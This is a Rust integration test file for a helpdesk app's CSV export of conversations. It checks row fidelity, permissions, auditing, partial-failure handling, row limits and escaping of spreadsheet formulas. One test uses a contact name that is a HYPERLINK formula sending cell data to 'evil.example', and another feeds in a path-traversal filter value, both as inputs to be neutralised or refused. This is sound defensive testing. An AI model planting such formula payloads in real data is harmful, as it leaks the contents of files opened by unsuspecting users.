//! The CSV export: the rows of the list, safe for spreadsheets, and never silently truncated.

use crate::support::lists::{list, rows};
use crate::support::{Answer, Browser, TestApp, eventually};
use reqwest::{Method, Response};
use sevendesk::model::{Conversation, Role};
use sevendesk::server::store::audit::{AuditFilter, AuditRecord};
use sevendesk::server::store::users::Change;
use sevendesk::server::table::programs::escape_formula;
use sevendesk::simulator::{Contract, Fault};
use std::collections::BTreeSet;
use std::time::Duration;

/// Parses a CSV file into its column names and rows.
fn table(file: &Answer) -> (Vec<String>, Vec<csv::StringRecord>) {
    assert_eq!(file.status, 200, "{}", file.text);
    let mut table = csv::Reader::from_reader(file.text.as_bytes());
    let names = table.headers().unwrap().iter().map(str::to_owned).collect();
    (names, table.records().map(|row| row.expect("as many cells as columns")).collect())
}

fn column<'a>(names: &[String], row: &'a csv::StringRecord, name: &str) -> &'a str {
    &row[names.iter().position(|known| known == name).unwrap()]
}

/// Reads all pages of a list.
async fn all_pages(browser: &Browser, query: &str) -> Vec<Conversation> {
    let mut found = Vec::new();
    for number in 1.. {
        let page = list(browser, &format!("{query}&page={number}&page_size=100")).await;
        found.extend(rows(&page));
        if u64::from(page.page) >= page.total_pages {
            return found;
        }
    }
    unreachable!("there is a last page");
}

/// Returns the audited exports, newest first.
async fn exports(app: &TestApp) -> Vec<AuditRecord> {
    let filter = AuditFilter { action: Some("export".to_owned()), ..AuditFilter::default() };
    app.state.store.audit(&filter, 100).await.unwrap()
}

/// Starts a download without reading its body.
async fn start_download(browser: &Browser, path: &str) -> Response {
    let download = browser.request(Method::GET, path).send().await.unwrap();
    assert_eq!(download.status(), 200);
    download
}

async fn set_up(contract: Contract, queue: bool) -> TestApp {
    let mut config = TestApp::new(contract);
    config.queue = queue;
    config.start().await
}

/// Starts an app with many pages of conversations and a slow SendSeven.
async fn slow_app() -> (TestApp, Browser) {
    let mut config = TestApp::new(Contract::Live);
    config.simulator.conversations = 1_500;
    let app = config.start().await;
    let lea = app.sign_in(Role::Lead).await;
    list(&lea, "").await;
    app.simulator.fail_with(Some(Fault::Slow(Duration::from_millis(150))));
    (app, lea)
}

#[tokio::test]
async fn the_csv_matches_the_list_in_both_contracts_with_and_without_the_queue() {
    for contract in [Contract::Documented, Contract::Live] {
        for queue in [false, true] {
            let app = set_up(contract, queue).await;
            let lea = app.sign_in(Role::Lead).await;
            let agent = app.simulator.agents()[0].0.clone();
            for query in [
                String::new(),
                "status=closed".to_owned(),
                "status=open&channel=whatsapp".to_owned(),
                "needs_reply=true".to_owned(),
                format!("assigned_to={agent}"),
            ] {
                let listed = all_pages(&lea, &query).await;
                let file = lea.get(&format!("/conversations.csv?{query}")).await;

                let (names, written) = table(&file);
                let about = format!("{contract:?}, queue {queue}, {query}");
                let ids = |row: &csv::StringRecord| column(&names, row, "id").to_owned();
                let ids: Vec<String> = written.iter().map(ids).collect();
                let expected: Vec<String> = listed.iter().map(|one| one.id.to_string()).collect();
                assert_eq!(ids, expected, "{about}");
                for (row, one) in written.iter().zip(&listed) {
                    let assignee = one.assignee.as_ref().map_or("", |agent| agent.id.as_str());
                    assert_eq!(column(&names, row, "assignee id"), assignee, "{about}");
                    assert_eq!(column(&names, row, "channel"), one.channel.as_str(), "{about}");
                    let created = one.created_at.unwrap().iso();
                    assert_eq!(column(&names, row, "created"), created, "{about}");
                }
                let last = exports(&app).await.remove(0);
                let result = format!("done, {} rows", listed.len());
                assert_eq!(last.result, Some(result), "{about}");
                let canonical = query.replace('?', "");
                assert_eq!(last.details, Some(format!("conversations: {canonical}")), "{about}");
            }
        }
    }
}

#[tokio::test]
async fn an_export_from_the_queue_makes_no_calls() {
    let app = set_up(Contract::Live, true).await;
    let lea = app.sign_in(Role::Lead).await;
    list(&lea, "").await;
    app.simulator.fail_with(Some(Fault::Status(503)));

    let file = lea.get("/conversations.csv?waiting_over=60&sort=-waiting&page=3").await;

    let (names, written) = table(&file);
    let since: Vec<&str> = written.iter().map(|row| column(&names, row, "waiting since")).collect();
    assert!(since.len() > 5 && since.is_sorted_by(|one, other| one >= other), "{since:?}");
}

#[tokio::test]
async fn a_contact_name_that_is_a_formula_is_exported_as_text() {
    let app = TestApp::new(Contract::Live).start().await;
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\"),\r\nnext";
    let id = app.simulator.arrives(&serde_json::json!({ "name": name, "phone": "+1202555" }));
    let lea = app.sign_in(Role::Lead).await;

    let file = lea.get("/conversations.csv").await;

    assert!(file.text.starts_with('\u{feff}') && file.text.ends_with("\r\n"));
    let (names, written) = table(&file);
    let row = written.iter().find(|row| column(&names, row, "id") == id).unwrap();
    assert_eq!(column(&names, row, "contact"), format!("'{}", name.replace("\r\n", "  ")));
    assert_eq!(column(&names, row, "phone"), "'+1202555");
    let harmless = |text: &str| escape_formula(text) == text;
    assert!(written.iter().flatten().all(harmless), "escaped text is not escaped again");
}

#[test]
fn only_text_that_starts_a_formula_is_prefixed_with_an_apostrophe() {
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1", "\u{a0}=1", "＝1"] {
        assert_eq!(escape_formula(text), format!("'{text}"));
    }
    for text in ["", "Ada", "a=1", "1-1", "2026-11-22T10:31:05Z", "'=1", " Ada"] {
        assert_eq!(escape_formula(text), text);
    }
}

#[tokio::test]
async fn only_leads_and_admins_may_export_and_refused_attempts_are_audited() {
    let app = TestApp::new(Contract::Live).start().await;
    let vera = app.sign_in(Role::Viewer).await;
    app.simulator.forget_calls();

    let refused = vera.get("/conversations.csv?status=open").await;

    assert_eq!(refused.status, 403);
    assert!(refused.text.contains("this needs lead"), "{}", refused.text);
    assert_eq!(app.simulator.calls(), []);
    let all = app.state.store.audit(&AuditFilter::default(), 1).await.unwrap();
    assert_eq!(all[0].details.as_deref(), Some("export: lead needed, viewer held"));
    assert!(!vera.get("/conversations").await.text.contains("conversations.csv"));
    let lea = app.sign_in(Role::Lead).await;
    let page = lea.get("/conversations?status=open&page=2").await.text;
    assert!(page.contains("href=\"/conversations.csv?status=open\""), "{page}");
    let visitor = app.anonymous().get("/conversations.csv?status=open").await;
    let form = "/sign-in?next=%2Fconversations%3Fstatus%3Dopen";
    assert_eq!((visitor.status, visitor.location()), (303, Some(form)));
}

#[tokio::test]
async fn invalid_filter_values_are_refused_before_any_call() {
    let app = TestApp::new(Contract::Live).start().await;
    let lea = app.sign_in(Role::Lead).await;
    list(&lea, "").await;
    app.simulator.forget_calls();
    for query in ["status=sleeping", "channel=pigeon", "assigned_to=..%2F", "status=pending"] {
        let refused = lea.get(&format!("/conversations.csv?{query}")).await;
        assert_eq!(refused.status, 400, "{query}");
        assert!(refused.text.contains("is not a valid value"), "{}", refused.text);
    }
    assert_eq!(app.simulator.calls(), []);
    assert_eq!(exports(&app).await, []);
    // A filter that only the queue supports is refused without the queue.
    assert_eq!(lea.get("/conversations.csv?waiting_over=5").await.status, 400);
}

#[tokio::test]
async fn an_export_that_fails_midway_does_not_look_complete() {
    let (app, lea) = slow_app().await;
    let mut download = start_download(&lea, "/conversations.csv").await;
    // The byte order mark, then the first page.
    while !download.chunk().await.unwrap().unwrap().starts_with(b"id,") {}
    let result = exports(&app).await.remove(0).result;
    assert_eq!(result, None, "the entry has no result while the export runs");
    app.simulator.fail_with(Some(Fault::Status(403)));

    let rest = loop {
        match download.chunk().await {
            Ok(Some(_)) => {}
            end => break end,
        }
    };

    assert!(rest.is_err(), "the browser sees an incomplete response: {rest:?}");
    let result = exports(&app).await.remove(0).result.unwrap();
    assert!(result.starts_with("failed: vendor-scope, after "), "{result}");
    assert!(result.ends_with("00 rows"), "{result}");
}

#[tokio::test]
async fn an_export_whose_first_page_fails_returns_a_message_instead_of_a_file() {
    let app = TestApp::new(Contract::Live).start().await;
    let lea = app.sign_in(Role::Lead).await;
    app.simulator.fail_with(Some(Fault::Status(403)));

    let refused = lea.get("/conversations.csv").await;

    assert_eq!(refused.status, 502);
    assert!(refused.text.starts_with("The API token may not do this."), "{}", refused.text);
    let result = exports(&app).await.remove(0).result;
    assert_eq!(result.as_deref(), Some("failed: vendor-scope"));
}

#[tokio::test]
async fn a_disconnected_browser_stops_the_export() {
    let (app, lea) = slow_app().await;
    let mut download = start_download(&lea, "/conversations.csv").await;
    download.chunk().await.unwrap();
    drop(download);

    let result = eventually(async || exports(&app).await.remove(0).result).await;

    assert!(result.starts_with("failed: audit-browser-gone, after "), "{result}");
    assert!(app.simulator.calls().len() < 15, "the export stopped before the last page");
}

#[tokio::test]
async fn disabling_the_operator_stops_a_running_export() {
    let (app, lea) = slow_app().await;
    let mut download = start_download(&lea, "/conversations.csv").await;
    download.chunk().await.unwrap();
    app.state.store.change_user("Lea Hartmann", Change::Disable).await.unwrap();

    while let Ok(Some(_)) = download.chunk().await {}

    let result = eventually(async || exports(&app).await.remove(0).result).await;
    assert!(result.starts_with("failed: error-signed-out, after "), "{result}");
}

#[tokio::test]
async fn an_export_above_the_row_limit_is_refused_with_the_row_count() {
    let mut config = TestApp::new(Contract::Live);
    config.simulator.conversations = 30_001;
    let app = config.start().await;
    let lea = app.sign_in(Role::Lead).await;

    let refused = lea.get("/conversations.csv").await;

    assert_eq!(refused.status, 400);
    assert!(refused.text.starts_with("30,001 conversations match; a file holds at most 30,000."));
    let refused = lea.with_language("de").get("/conversations.csv").await.text;
    assert!(
        refused.starts_with("30.001 Unterhaltungen passen; eine Datei fasst höchstens 30.000.")
    );
    let result = exports(&app).await.remove(0).result;
    assert_eq!(result.as_deref(), Some("failed: 30001 conversations are too many"));
}

#[tokio::test]
async fn a_conversation_that_moves_between_pages_is_exported_once() {
    let (app, lea) = slow_app().await;
    let ids: Vec<String> = all_pages(&lea, "").await.iter().map(|one| one.id.to_string()).collect();
    let mut download = start_download(&lea, "/conversations.csv").await;
    let mut text = Vec::from(download.chunk().await.unwrap().unwrap());
    for id in ids.iter().rev().take(40) {
        app.simulator.customer_writes(id);
    }
    while let Some(more) = download.chunk().await.unwrap() {
        text.extend_from_slice(&more);
    }

    let mut table = csv::Reader::from_reader(text.as_slice());
    let written: Vec<String> = table.records().map(|row| row.unwrap()[0].to_owned()).collect();
    let unique: BTreeSet<&String> = written.iter().collect();
    assert_eq!(unique.len(), written.len());
    assert!(written.len() >= ids.len() - 40, "{} of {}", written.len(), ids.len());
}

#[tokio::test]
async fn an_unreadable_row_is_exported_with_its_id() {
    let app = TestApp::new(Contract::Live).start().await;
    let lea = app.sign_in(Role::Lead).await;
    let broken = rows(&list(&lea, "status=closed").await).remove(3).id.to_string();
    app.simulator.break_row(&broken);

    let (names, written) = table(&lea.get("/conversations.csv?status=closed").await);

    let row = written.iter().find(|row| column(&names, row, "id") == broken).unwrap();
    assert_eq!(column(&names, row, "status"), "could not be read");
    let result = exports(&app).await.remove(0).result.unwrap();
    assert!(result.ends_with(" rows, 1 of them could not be read"), "{result}");
}
